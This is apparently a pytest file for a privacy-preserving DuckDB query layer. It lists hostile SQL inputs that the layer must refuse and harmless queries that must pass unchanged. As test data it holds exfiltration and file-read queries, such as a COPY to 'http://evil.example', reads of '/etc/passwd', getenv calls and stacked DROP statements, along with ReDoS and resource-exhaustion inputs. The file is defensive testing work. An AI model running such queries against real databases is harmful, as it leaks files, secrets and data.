"""Questions that try to leave the plan: each is refused by name before anything of it could run."""

# ruff: noqa: S608 - the queries are what is tested

import duckdb
import pytest
from sqlglot import exp
from sqlglot.dialects import DuckDB

from renkei.kernel.refusals import Refusal
from renkei.privacy.queries.expressions import TIME_PARTS, TIME_STEPS, written
from renkei.privacy.queries.rewriting import prepare
from tests.factories.lake import COLUMNS

PART, FUNCTION, TABLE, COLUMN = "part-refused", "function-refused", "table-unknown", "column-unknown"
LARGE, UNREADABLE, TYPES = "too-large", "unreadable", "types-differ"
ARGUMENT, GROUPED = "argument-refused", "not-grouped"

HOSTILE = [
    # other statements
    ("DROP TABLE data", PART),
    ("INSERT INTO data VALUES (1)", PART),
    ("UPDATE data SET reading = 0", PART),
    ("DELETE FROM data", PART),
    ("CREATE TABLE t AS SELECT count(*) FROM data", PART),
    ("COPY data TO '/tmp/out.csv'", PART),
    ("COPY (SELECT count(*) FROM data) TO 'http://evil.example/x'", PART),
    ("ATTACH 'other.db' AS o", PART),
    ("INSTALL httpfs", PART),
    ("LOAD httpfs", PART),
    ("PRAGMA database_list", PART),
    ("SET enable_external_access = true", PART),
    ("RESET enable_external_access", PART),
    ("CALL pragma_version()", PART),
    ("EXPORT DATABASE '/tmp/x'", PART),
    ("EXPLAIN SELECT count(*) FROM data", PART),
    ("EXPLAIN ANALYZE SELECT count(*) FROM data", PART),
    ("DESCRIBE data", PART),
    ("SUMMARIZE data", PART),
    ("SHOW TABLES", PART),
    ("USE other", PART),
    ("PREPARE p AS SELECT count(*) FROM data", PART),
    ("VALUES (1)", PART),
    ("TABLE data", PART),
    ("FROM data", PART),
    ("FROM data SELECT count(*)", PART),
    ("WITH x AS (SELECT * FROM data) SELECT count(*) FROM x", PART),
    ("WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT 1 FROM x) SELECT count(*) FROM x", PART),
    ("(SELECT count(*) FROM data)", PART),
    ("SELECT count(*) FROM data; DROP TABLE data", PART),
    ("SELECT count(*) FROM data; SELECT device FROM data", PART),
    # other tables
    ("SELECT count(*) FROM other", TABLE),
    ("SELECT count(*) FROM main.data", TABLE),
    ("SELECT count(*) FROM temp.main.data", TABLE),
    ("SELECT count(*) FROM '/etc/passwd'", TABLE),
    ("SELECT count(*) FROM 'releases/other.parquet'", TABLE),
    ("SELECT count(*) FROM 'https://evil.example/x.parquet'", TABLE),
    ("SELECT count(*) FROM read_csv('/etc/passwd')", TABLE),
    ("SELECT count(*) FROM read_parquet('*')", TABLE),
    ("SELECT count(*) FROM read_text('/etc/passwd')", TABLE),
    ("SELECT count(*) FROM glob('/**')", TABLE),
    ("SELECT count(*) FROM information_schema.tables", TABLE),
    ("SELECT count(*) FROM duckdb_settings()", TABLE),
    ("SELECT count(*) FROM sqlite_master", TABLE),
    ("SELECT count(*) FROM range(1000000000000)", TABLE),
    ("SELECT count(*) FROM (SELECT device FROM data) AS data", TABLE),
    ("SELECT count(*) FROM (VALUES (1)) AS data(device)", TABLE),
    ("SELECT 1", TABLE),
    ("SELECT count(*) FROM data, data AS b", PART),
    ("SELECT count(*) FROM data JOIN data AS b ON true", PART),
    ("SELECT count(*) FROM data CROSS JOIN '/etc/passwd'", PART),
    ("SELECT count(*) FROM data, LATERAL (SELECT 1)", PART),
    ("SELECT count(*) FROM data POSITIONAL JOIN data AS b", PART),
    ("SELECT count(*) FROM data AS d(device)", PART),
    ("SELECT count(*) FROM data TABLESAMPLE 10%", PART),
    ("SELECT count(*) FROM data USING SAMPLE 10", PART),
    ("SELECT count(*) FROM data AT (VERSION => 1)", PART),
    # sets and sub-queries
    ("SELECT count(*) FROM data UNION SELECT device FROM data", PART),
    ("SELECT count(*) FROM data INTERSECT SELECT 1", PART),
    ("SELECT count(*) FROM data EXCEPT SELECT 1", PART),
    ("SELECT (SELECT device FROM data LIMIT 1), count(*) FROM data", PART),
    ("SELECT count(*) FROM data WHERE device = (SELECT min(device) FROM data)", PART),
    ("SELECT count(*) FROM data WHERE device IN (SELECT device FROM data)", PART),
    ("SELECT count(*) FROM data WHERE EXISTS (SELECT 1 FROM data)", FUNCTION),
    ("SELECT count(*) FROM data WHERE device = ANY (SELECT device FROM data)", PART),
    # functions
    ("SELECT read_text('/etc/passwd') FROM data", FUNCTION),
    ("SELECT getenv('HOME'), count(*) FROM data", FUNCTION),
    ("SELECT current_setting('memory_limit'), count(*) FROM data", FUNCTION),
    ("SELECT version(), count(*) FROM data", FUNCTION),
    ("SELECT count(*) FROM data WHERE random() < 0.5", FUNCTION),
    ("SELECT count(*) FROM data WHERE at > now()", FUNCTION),
    ("SELECT count(*) FROM data WHERE error(device) IS NULL", FUNCTION),
    ("SELECT count(*) FROM data WHERE regexp_matches(device, '(a+)+$')", FUNCTION),
    ("SELECT count(*) FROM data WHERE repeat(device, 1000000000) = 'x'", FUNCTION),
    ("SELECT count(*) FROM data WHERE device || device = 'x'", PART),
    ("SELECT count(*) FROM data WHERE sqrt(reading) > 1", FUNCTION),
    ("SELECT count(*) FROM data WHERE query('SELECT 1')", FUNCTION),
    ("SELECT pg_sleep(10), count(*) FROM data", FUNCTION),
    ("SELECT list(device) FROM data", FUNCTION),
    ("SELECT string_agg(device) FROM data", FUNCTION),
    ("SELECT first(reading) FROM data", FUNCTION),
    ("SELECT any_value(reading) FROM data", PART),
    ("SELECT arg_max(device, reading) FROM data", FUNCTION),
    ("SELECT min(reading), max(reading) FROM data", FUNCTION),
    ("SELECT median(reading) FROM data", FUNCTION),
    ("SELECT quantile_cont(reading, 0.5) FROM data", FUNCTION),
    ("SELECT mode(gateway) FROM data", FUNCTION),
    ("SELECT histogram(reading) FROM data", FUNCTION),
    ("SELECT product(reading) FROM data", FUNCTION),
    ("SELECT bit_xor(counter) FROM data", FUNCTION),
    ("SELECT sum(reading) OVER (), count(*) FROM data", PART),
    ("SELECT row_number() OVER (), count(*) FROM data", PART),
    ("SELECT count(*) FROM data QUALIFY row_number() OVER () = 1", PART),
    ("SELECT list_transform([1], x -> x), count(*) FROM data", FUNCTION),
    ("SELECT date_trunc('microsecond', at), count(*) FROM data GROUP BY 1", FUNCTION),
    # columns
    ('SELECT count("entity key") FROM data', COLUMN),
    ('SELECT "row key", count(*) FROM data GROUP BY 1', COLUMN),
    ("SELECT count(*) FROM data WHERE rowid = 1", COLUMN),
    ("SELECT count(*) FROM data WHERE filename = 'x'", COLUMN),
    ("SELECT count(*) FROM data GROUP BY other.device", COLUMN),
    ("SELECT count(*) FROM data ORDER BY secret", COLUMN),
    ("SELECT * FROM data", PART),
    ("SELECT data.* FROM data", PART),
    ("SELECT COLUMNS('.*') FROM data", FUNCTION),
    ("SELECT data FROM data", COLUMN),
    ("SELECT * EXCLUDE (device) FROM data", PART),
    ("SELECT device FROM data", GROUPED),
    ("SELECT count(*) FROM data GROUP BY gateway ORDER BY device", GROUPED),
    ("SELECT count(*) FROM data HAVING device = 'D-1'", GROUPED),
    # shapes of a query
    ("SELECT count(*) FROM data GROUP BY ALL", PART),
    ("SELECT count(*) FROM data GROUP BY CUBE (gateway, device)", PART),
    ("SELECT count(*) FROM data GROUP BY ROLLUP (gateway)", PART),
    ("SELECT count(*) FROM data GROUP BY GROUPING SETS ((gateway), ())", PART),
    ("SELECT DISTINCT gateway FROM data GROUP BY gateway", PART),
    ("SELECT DISTINCT ON (gateway) gateway, count(*) FROM data GROUP BY gateway", PART),
    ("SELECT count(*) FROM data LIMIT 10%", PART),
    ("SELECT count(*) FROM data LIMIT (SELECT 1)", TYPES),
    ("SELECT count(*) FROM data WHERE device = ?", PART),
    ("SELECT count(*) FROM data WHERE device = $1", PART),
    ("SELECT count(*) FROM data WHERE device = :name", PART),
    ("SELECT count(*) FROM data WHERE (1, 2) = (1, 2)", PART),
    ("SELECT [1, 2], count(*) FROM data", FUNCTION),
    ("SELECT {'a': 1}, count(*) FROM data", FUNCTION),
    ("SELECT count(*) FROM data WHERE device SIMILAR TO '(a+)+'", PART),
    ("SELECT count(*) FROM data WHERE device GLOB '*'", PART),
    ("SELECT count(*) FROM data WHERE device LIKE gateway", PART),
    ("SELECT count(*) FROM data WHERE device LIKE '%a%a%a%a%a'", PART),
    ("SELECT count(*) FROM data WHERE device LIKE 'a!%' ESCAPE '!'", PART),
    ("SELECT count(*) FROM data WHERE at > '2026-01-01'::date + INTERVAL 1 DAY", TYPES),
    ("SELECT count(*) FROM data WHERE counter & 1 = 1", PART),
    ("SELECT count(*) FROM data WHERE counter << 60 > 1", PART),
    ("SELECT count(*) FROM data WHERE counter // 0 > 1", PART),
    ("SELECT count(*) FROM data WHERE counter ** 100 > 1", FUNCTION),
    ("SELECT count(*) FROM data WHERE CAST(device AS STRUCT(a INT)) IS NULL", PART),
    ("SELECT count(*) FROM data WHERE device COLLATE NOCASE = 'x'", FUNCTION),
    ("SELECT count(*) FROM data WHERE device > 5", TYPES),
    ("SELECT count(*) FROM data WHERE at = 'not a time'", TYPES),
    ("SELECT count(*) FROM data WHERE device", TYPES),
    ("SELECT sum(device) FROM data", TYPES),
    # inside aggregates
    ("SELECT sum(CASE WHEN device = 'D-1' THEN reading END) FROM data", ARGUMENT),
    ("SELECT sum(reading) FILTER (WHERE device = 'D-1') FROM data", PART),
    ("SELECT sum(DISTINCT reading) FROM data", PART),
    ("SELECT sum(reading ORDER BY device) FROM data", ARGUMENT),
    ("SELECT avg(sum(reading)) FROM data", ARGUMENT),
    ("SELECT count(DISTINCT device, reading) FROM data", PART),
    ("SELECT count(DISTINCT CASE WHEN device = 'D-1' THEN 1 END) FROM data", ARGUMENT),
    ("SELECT count(*) FROM data WHERE count(*) > 1", FUNCTION),
    ("SELECT count(*) FROM data GROUP BY count(*)", PART),
    # size and spelling
    ("SELECT count(*) FROM data WHERE " + "(" * 200 + "true" + ")" * 200, LARGE),
    ("SELECT count(*) FROM data WHERE " + "NOT " * 3000 + "true", LARGE),
    ("SELECT count(*) FROM data WHERE counter = " + "- " * 3000 + "1", LARGE),
    ("SELECT count(*) FROM data WHERE counter = " + " + ".join(["1"] * 1500), LARGE),
    ("SELECT count(*) FROM data WHERE " + "CASE WHEN true THEN " * 100 + "true" + " END" * 100, LARGE),
    ("SELECT count(*) FROM data WHERE device = '" + "x" * 20_000 + "'", LARGE),
    ("SELECT " + "[" * 5000, LARGE),
    ("SELECT count(*) FROM data WHERE device = 'a\x00b'", PART),
    ("SELECT count(*) FROM data WHERE device = 'unterminated", UNREADABLE),
    ("SELECT count(*) FROM data WHERE (", UNREADABLE),
    ("SELECT count(* FROM data", UNREADABLE),
    ("SELECT count(*) /* unterminated FROM data", UNREADABLE),
    ("", PART),
    (";", PART),
]


@pytest.mark.parametrize(
    ("sql", "code"), HOSTILE, ids=[f"{n}-{sql[:40]}" for n, (sql, _) in enumerate(HOSTILE)]
)
def test_what_leaves_the_plan_is_refused_by_name(sql: str, code: str):
    with pytest.raises(Refusal) as refused:
        prepare(sql, COLUMNS, least=3)

    assert refused.value.code == f"privacy.query-{code}", str(refused.value)
    assert refused.value.said("ja")
    assert refused.value.said("en")


HARMLESS = [
    "SELECT count(*) -- ' UNION SELECT 1\nFROM data /* ; DROP TABLE data */",
    "SELECT /*+ hint */ gateway, count(*) FROM data GROUP BY gateway",
    """SELECT count(*) FROM data WHERE device = 'a''; DROP TABLE data; --'""",
    """SELECT count(*) AS "x""; DROP TABLE data; --" FROM data ORDER BY "x""; DROP TABLE data; --" """,
    "SELECT count(*) FROM data AS d WHERE d.gateway IN ('a', 'b') AND NOT (d.counter BETWEEN 1 AND 2 OR d.at IS NULL)",
    "SELECT CASE counter WHEN 1 THEN 'a' ELSE gateway END AS g, avg(reading) / count(*) FROM data GROUP BY g HAVING count(*) > 1",
    "SELECT extract(hour FROM at) AS h, date_part('dow', at), stddev(reading), variance(reading) FROM data GROUP BY 1, 2",
    *(f"SELECT extract({part} FROM at) AS p, count(*) FROM data GROUP BY p" for part in TIME_PARTS),
    *(f"SELECT date_trunc('{step}', at) AS p, count(*) FROM data GROUP BY p" for step in TIME_STEPS),
    "SELECT stddev_pop(reading), var_pop(reading), stddev_samp(reading), var_samp(reading), sum(counter) FROM data",
    "SELECT count(*) FROM data WHERE if(left(device, 1) = right(device, 1), floor(reading) > ceil(reading), length(device) > 1)",
    "SELECT round(avg(reading), 1), abs(-count(*)) FROM data WHERE lower(trim(substring(gateway, 1, 3))) NOT LIKE 'g%'",
    "SELECT count(DISTINCT device) FROM data WHERE CAST(at AS DATE) >= '2026-05-01' AND reading % 2 = -1e-3 LIMIT 5 OFFSET 1",
    "SELECT date_trunc('day', at) AS d, count(*) FROM data GROUP BY d ORDER BY d DESC NULLS FIRST",
    "SELECT CASE WHEN counter > 0 THEN -(0.0) ELSE 0.0 END AS z, gateway, sum(reading) FROM data GROUP BY z, gateway",
    "select COUNT(*) from DATA where GATEWAY ilike 'g_1' or coalesce(counter, 0) <> nullif(counter, 3);",
]


@pytest.mark.parametrize("sql", HARMLESS)
def test_what_runs_is_what_was_checked(sql: str):
    prepared = prepare(sql, COLUMNS, least=3)

    for text in (prepared.answer, prepared.marks, prepared.everything):
        (tree,) = DuckDB().parse(text)
        assert tree is not None
        assert written(tree).lower() == text.lower()
        assert [table.sql() for table in tree.find_all(exp.Table)] == ['"data"']
        assert not list(tree.find_all(exp.Subquery, exp.Join, exp.SetOperation, exp.Command))
        assert "--" not in text.replace("; --", "")
        assert "/*" not in text
        with duckdb.connect() as db:  # one statement, which DuckDB itself reads so
            assert len(db.extract_statements(text)) == 1
